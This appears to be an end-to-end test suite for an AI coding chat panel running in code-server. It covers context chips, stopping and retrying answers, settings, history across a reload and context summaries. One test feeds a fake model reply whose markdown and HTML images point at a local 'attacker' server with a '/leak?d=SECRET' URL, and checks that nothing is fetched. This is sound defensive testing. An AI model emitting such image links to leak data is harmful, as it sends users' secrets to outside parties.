// The chat panel as a user drives it in a real VS Code (code-server): typing in the panel, context
// chips, Stop / Retry / Continue, model controls persisting to settings, history across a window
// reload, no remote fetch for images in model output — also when a chat is reopened — and the
// context meter's New Chat with Summary once a chat nearly fills the model's window.
// The tests share one workbench but not their state: each one opens what it needs (the sample file,
// a new chat), queues its own replies, looks at requests by the index they had when it started, and
// puts back settings it changed, so each passes alone and in any order.
import { readFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { FakeResponsesServer } from '../fake-server/fakeResponsesServer';
import { openChatWorkbench, sendFromPanel, until, type ChatWorkbench } from '../harness/chatWorkbench';
import type { RunningCodeServer } from '../harness/codeServer';
import { chatFrame, openFile, placeCursor, runCommand, selectLines } from '../harness/workbench';

const SAMPLE_PATH = 'src/inventory.ts';
const SAMPLE = [
  'export interface Item {',
  '  name: string;',
  '  count: number;',
  '}',
  '',
  'export function total(items: Item[]): number {',
  '  return items.reduce((sum, item) => sum + item.count, 0);',
  '}',
  '',
].join('\n');

function lastTurn(frame: Frame) {
  return frame.locator('article.turn').last();
}

async function turnStatus(frame: Frame): Promise<string | null> {
  return lastTurn(frame).getAttribute('data-status');
}

/** Starts a new, empty chat from the panel header, so a test's transcript holds only its own turns. */
async function startNewChat(frame: Frame): Promise<void> {
  await frame.locator('.chat-header [data-action="new-chat"]').click();
  await until(async () => (await frame.locator('article.turn').count()) === 0, 'an empty chat');
}

describe('the Codewright chat panel in a real VS Code', () => {
  let env: ChatWorkbench;
  let fake: FakeResponsesServer;
  let server: RunningCodeServer;
  let page: Page;
  let frame: Frame;
  let attacker: http.Server;
  let attackerHits = 0;
  let attackerUrl = '';

  beforeAll(async () => {
    attacker = http.createServer((_req, res) => {
      attackerHits++;
      res.end('gotcha');
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    env = await openChatWorkbench({ name: 'chat-panel', files: { [SAMPLE_PATH]: SAMPLE }, openFile: SAMPLE_PATH });
    ({ fake, server, page, frame } = env);
  });

  afterAll(async () => {
    await env?.close();
    await new Promise<void>((resolve) => attacker?.close(() => resolve()));
  });

  beforeEach(({ task, onTestFailed }) => {
    onTestFailed(() => env?.screenshot(task.name));
    // Replies a failed test left queued would answer the next test's requests.
    fake.discardPendingReplies();
  });

  it('shows the selection and open file as chips, and sends only the chips the user kept', async () => {
    await openFile(page, env.workspaceDir, SAMPLE_PATH);
    await selectLines(page, 6, 8);
    // The chip follows the selection as Shift+Down extends it (6–7, then 6–8): wait for the final one.
    await until(async () => (await frame.locator('.chip-selection .chip-detail').first().textContent().catch(() => null)) === 'lines 6–8', 'the selection chip for lines 6–8');
    expect(await frame.locator('.chip-file .chip-label').first().textContent()).toBe(SAMPLE_PATH);

    await frame.locator('.chip-file .icon-button[data-action="remove-chip"]').first().click();
    await until(async () => (await frame.locator('.chip-file').count()) === 0, 'the file chip to go away');

    fake.enqueue({ output: [{ type: 'message', text: 'It sums the counts.', chunks: 3 }] });
    const before = fake.requests.length;
    await sendFromPanel(frame, 'What does total() return?');
    await until(async () => (await turnStatus(frame)) === 'completed', 'the answer');
    expect(await lastTurn(frame).locator('.answer').textContent()).toContain('It sums the counts.');
    expect(await frame.locator('.prompt-input').inputValue()).toBe('');

    const body = fake.requests[before].body as { input: { content: { type: string; text?: string }[] }[] };
    const parts = body.input.flatMap((item) => item.content);
    expect(parts.some((part) => part.type === 'input_file')).toBe(false);
    expect(parts.some((part) => part.type === 'input_text' && part.text?.includes('item.count'))).toBe(true);
    // After sending, the removed chip comes back for the next question.
    await until(async () => (await frame.locator('.chip-file').count()) > 0, 'the file chip to come back');
  });

  it('stops a streaming answer with Escape, keeps the partial text, and retries it', async () => {
    const index = fake.requests.length;
    fake.enqueue(
      { output: [{ type: 'message', text: 'token '.repeat(300), chunks: 300 }], chunkDelayMs: 40 },
      { output: [{ type: 'message', text: 'The retried answer.', chunks: 2 }] },
    );
    await sendFromPanel(frame, 'Tell me everything');
    await until(async () => ((await lastTurn(frame).locator('.answer').textContent()) ?? '').length > 30, 'some streamed text');
    await frame.locator('.prompt-input').press('Escape');
    await until(async () => (await turnStatus(frame)) === 'stopped', 'the stopped state');
    const partial = (await lastTurn(frame).locator('.answer').textContent()) ?? '';
    expect(partial.length).toBeGreaterThan(30);
    expect(partial.length).toBeLessThan('token '.repeat(300).length);
    await fake.connectionClosed(index);
    expect(fake.requests[index].clientClosedEarly).toBe(true);

    await lastTurn(frame).locator('[data-action="retry"]').click();
    await until(async () => (await turnStatus(frame)) === 'completed', 'the retried answer');
    expect(await lastTurn(frame).locator('.answer').textContent()).toContain('The retried answer.');
  });

  it('offers Continue when the answer hits the output limit and continues in the same turn', async () => {
    fake.enqueue(
      { output: [{ type: 'message', text: 'First half, ' }], status: 'incomplete', incompleteReason: 'max_output_tokens' },
      { output: [{ type: 'message', text: 'second half.' }] },
    );
    await sendFromPanel(frame, 'Write a long answer');
    await until(async () => (await turnStatus(frame)) === 'incomplete', 'the incomplete state');
    expect(await lastTurn(frame).locator('.turn-status').textContent()).toContain('output token limit');
    const turns = await frame.locator('article.turn').count();
    await lastTurn(frame).locator('[data-action="continue"]').click();
    await until(async () => (await turnStatus(frame)) === 'completed', 'the continued answer');
    expect(await frame.locator('article.turn').count()).toBe(turns);
    expect(await lastTurn(frame).locator('.answer').textContent()).toContain('First half, second half.');
  });

  it('persists model controls changed in the panel to the user settings', async ({ onTestFinished }) => {
    const effort = frame.locator('select.control-effort');
    const verbosity = frame.locator('select.control-verbosity');
    // Until the extension's first snapshot arrives the pickers show their first option ('none'),
    // which the model then does not accept: read the values the snapshot set (it fills the model box).
    await until(async () => (await frame.locator('.model-input').inputValue()) !== '', "the model controls from the extension");
    const original = { effort: await effort.inputValue(), verbosity: await verbosity.inputValue() };
    expect(original).not.toEqual({ effort: 'high', verbosity: 'low' });
    const settingsFile = join(server.userDataDir, 'User', 'settings.json');
    const holdsChangedValues = () => {
      const text = readFileSync(settingsFile, 'utf8');
      return text.includes('"codewright.reasoningEffort": "high"') && text.includes('"codewright.verbosity": "low"');
    };
    // Put the controls back (also after a failure) so later requests carry the default effort and verbosity.
    onTestFinished(async () => {
      await effort.selectOption(original.effort);
      await verbosity.selectOption(original.verbosity);
      await until(async () => !holdsChangedValues() && (await effort.inputValue()) === original.effort, 'settings.json to lose the changed values');
    });
    await effort.selectOption('high');
    await verbosity.selectOption('low');
    await until(async () => holdsChangedValues(), 'settings.json to hold the new values');
    fake.enqueue({ output: [{ type: 'message', text: 'ok' }] });
    const before = fake.requests.length;
    await sendFromPanel(frame, 'Short answer please');
    await until(async () => fake.requests.length > before && (await turnStatus(frame)) === 'completed', 'the answer');
    const body = fake.requests[before].body as { reasoning: { effort: string }; text: { verbosity: string } };
    expect(body.reasoning.effort).toBe('high');
    expect(body.text.verbosity).toBe('low');
    expect(await lastTurn(frame).locator('.turn-footer').textContent()).toContain('effort high');
  });

  it('explains a function from the Explain CodeLens above it', async () => {
    await openFile(page, env.workspaceDir, SAMPLE_PATH);
    fake.enqueue({ output: [{ type: 'message', text: 'total() adds up the counts.', chunks: 3 }] });
    const before = fake.requests.length;
    const lens = page.locator('.codelens-decoration a', { hasText: 'Explain' }).first();
    await lens.waitFor({ timeout: 60_000 });
    const turnsBefore = await frame.locator('article.turn').count();
    await lens.click();
    await until(async () => (await frame.locator('article.turn').count()) > turnsBefore && (await lastTurn(frame).getAttribute('data-status')) === 'completed', 'the answer');
    expect(await lastTurn(frame).locator('.turn-prompt-text').textContent()).toBe('Explain the function `total`');
    const body = fake.requests[before].body as { input: { content: { type: string; text?: string }[] }[] };
    const texts = body.input.flatMap((item) => item.content).filter((part) => part.type === 'input_text').map((part) => part.text ?? '');
    expect(texts.some((text) => text.includes('lines 6-8') && text.includes('items.reduce'))).toBe(true);
    expect(texts.some((text) => text.includes('the function `total`'))).toBe(true);
  });

  it('never fetches a remote image from model output, and keeps the chat across a window reload', async () => {
    // A chat of its own: the history list names a chat by its first prompt.
    await startNewChat(frame);
    const firstPrompt = 'What does an Item hold?';
    fake.enqueue({ output: [{ type: 'message', text: 'A name and a count.' }] });
    await sendFromPanel(frame, firstPrompt);
    await until(async () => (await turnStatus(frame)) === 'completed', 'the first answer');
    fake.enqueue({
      output: [
        {
          type: 'message',
          text: `Here: ![secret](${attackerUrl}/leak?d=SECRET) and ![ref][img] <img src="${attackerUrl}/raw.png">\n\n[img]: ${attackerUrl}/ref.png\n`,
          chunks: 6,
        },
      ],
    });
    await sendFromPanel(frame, 'Show me a picture');
    await until(async () => (await turnStatus(frame)) === 'completed', 'the answer with images');
    const turnsBefore = await frame.locator('article.turn').count();
    await page.waitForTimeout(500);
    expect(attackerHits).toBe(0);
    expect(await lastTurn(frame).locator('img').count()).toBe(0);

    const seenCounts = new Set<number>();
    await page.reload();
    await page.locator('.monaco-workbench').waitFor({ timeout: 60_000 });
    await page.locator('.activitybar [aria-label^="Codewright"]').first().waitFor({ timeout: 60_000 });
    await runCommand(page, 'Codewright: Open Chat');
    // The webview is created anew after a reload; look it up until it shows the restored chat.
    frame = await until(async () => {
      const current = await chatFrame(page);
      const count = await current.locator('article.turn').count().catch(() => -1);
      seenCounts.add(count);
      return count === turnsBefore ? current : undefined;
    }, 'the restored chat', 60_000).catch((err: Error) => {
      throw new Error(`${err.message}: expected ${turnsBefore} turns, saw counts ${[...seenCounts].join(', ')}`);
    });
    // A restored chat renders each answer once it nears the viewport: wait for that, not a fixed time.
    await until(async () => ((await lastTurn(frame).locator('.answer').textContent()) ?? '').includes('Here:'), 'the restored answer');
    await page.waitForTimeout(500);
    expect(attackerHits).toBe(0);

    // History: New Chat empties the transcript; the old chat can be reopened from the list.
    await frame.locator('.chat-header [data-action="new-chat"]').click();
    await until(async () => (await frame.locator('article.turn').count()) === 0, 'an empty chat');
    await frame.locator('[data-action="toggle-history"]').click();
    const entry = frame.locator('.history-list [data-action="open-conversation"]').first();
    // The most recently used chat comes first.
    expect(await entry.locator('.history-title').textContent()).toBe(firstPrompt);
    await entry.click();
    await until(async () => (await frame.locator('article.turn').count()) === turnsBefore, 'the reopened chat');
    await page.waitForTimeout(500);
    expect(attackerHits).toBe(0);
  });

  it('inserts a code block at the cursor, opens one as a new file, and opens web links only after the user confirms', async () => {
    fake.enqueue({
      output: [{ type: 'message', text: 'Add this:\n\n```ts\nexport const LIMIT = 10;\n```\n\nSee [the limits page](https://example.com/limits).', chunks: 4 }],
    });
    await sendFromPanel(frame, 'Give me a constant');
    await until(async () => (await turnStatus(frame)) === 'completed', 'the answer with code');
    const onDisk = () => readFileSync(join(env.workspaceDir, SAMPLE_PATH), 'utf8');

    // Insert at Cursor: the code replaces the empty line 5, as an ordinary undoable edit.
    await openFile(page, env.workspaceDir, SAMPLE_PATH);
    await placeCursor(page, 5, 1);
    await lastTurn(frame).locator('[data-cw-code-action="insert"]').click();
    await until(async () => ((await page.locator('.monaco-editor .view-lines').first().textContent()) ?? '').includes('LIMIT'), 'the inserted code');
    await page.locator('.monaco-editor .view-lines').first().click();
    await page.keyboard.press('Control+S');
    // Wait for the whole saved file: a read during the write may see it empty.
    await until(async () => onDisk().includes('export const LIMIT = 10;\n'), 'the saved file');
    expect(onDisk().split('\n')[4]).toBe('export const LIMIT = 10;');
    expect(onDisk().replace('export const LIMIT = 10;', '')).toBe(SAMPLE);
    await page.keyboard.press('Control+Z');
    await page.keyboard.press('Control+S');
    await until(async () => onDisk() === SAMPLE, 'the undone insert saved');

    // New File with this Code: an untitled TypeScript editor holding the code.
    await lastTurn(frame).locator('[data-cw-code-action="newFile"]').click();
    await until(async () => ((await page.locator('.tabs-container .tab.active').textContent()) ?? '').includes('Untitled'), 'the new untitled editor');
    await until(async () => ((await page.locator('.statusbar-item[id="status.editor.mode"]').textContent()) ?? '').includes('TypeScript'), 'TypeScript as its language');
    expect(((await page.locator('.editor-group-container.active .monaco-editor .view-lines').first().textContent()) ?? '').replace(/\u00a0/g, ' ')).toBe('export const LIMIT = 10;');
    await runCommand(page, 'View: Revert and Close Editor');

    // A web link opens only after a modal confirmation showing its URL; Cancel opens nothing.
    await lastTurn(frame).locator('.answer a', { hasText: 'the limits page' }).click();
    const dialog = page.locator('.monaco-dialog-box');
    await dialog.waitFor({ timeout: 10_000 });
    expect(await dialog.textContent()).toContain('https://example.com/limits');
    await dialog.locator('.monaco-button', { hasText: 'Cancel' }).click();
    await dialog.waitFor({ state: 'hidden' });
  });

  it('warns in the footer once a turn filled most of the context window, and New Chat with Summary opens a chat that carries only the summary', async () => {
    await startNewChat(frame);
    fake.enqueue(
      // 330k in + 10k out of gpt-5's 400k window: 85 %.
      { output: [{ type: 'message', text: 'I read the whole inventory.' }], usage: { inputTokens: 330_000, outputTokens: 10_000 } },
      { output: [{ type: 'message', text: '- Goal: count the inventory\n- Done: read src/inventory.ts' }] },
    );
    await sendFromPanel(frame, 'Read the whole inventory');
    await until(async () => (await turnStatus(frame)) === 'completed', 'the nearly full answer');
    const meter = lastTurn(frame).locator('.context-meter-full');
    await meter.waitFor({ state: 'visible' });
    expect(await meter.textContent()).toContain('context 85% of 400k');

    const index = fake.requests.length;
    await lastTurn(frame).locator('button.text-button', { hasText: 'New Chat with Summary' }).click();
    // The old chat also shows one completed turn here: wait for the summary's answer, not the count alone.
    await until(
      async () =>
        (await frame.locator('article.turn').count()) === 1 &&
        (await turnStatus(frame)) === 'completed' &&
        ((await lastTurn(frame).locator('.answer').textContent()) ?? '').includes('Goal: count the inventory'),
      'the new chat with its summary',
    );
    expect(await lastTurn(frame).locator('.answer').textContent()).toContain('Goal: count the inventory');
    const summaryBody = fake.requests[index].body as { previous_response_id?: string; input: { role?: string; type?: string }[] };
    expect(summaryBody.previous_response_id).toBeUndefined();
    // One user message: the summary prompt with the old chat as a transcript; no old turn travels as its own item.
    expect(summaryBody.input.filter((item) => item.role === 'user')).toHaveLength(1);
    expect(summaryBody.input.filter((item) => item.role === 'assistant' || item.type === 'message' && item.role !== 'user')).toHaveLength(0);
    const prompt = JSON.stringify(summaryBody.input);
    expect(prompt).toContain('Summarize the conversation in the transcript below');
    expect(prompt).toContain('Read the whole inventory');
  });
});
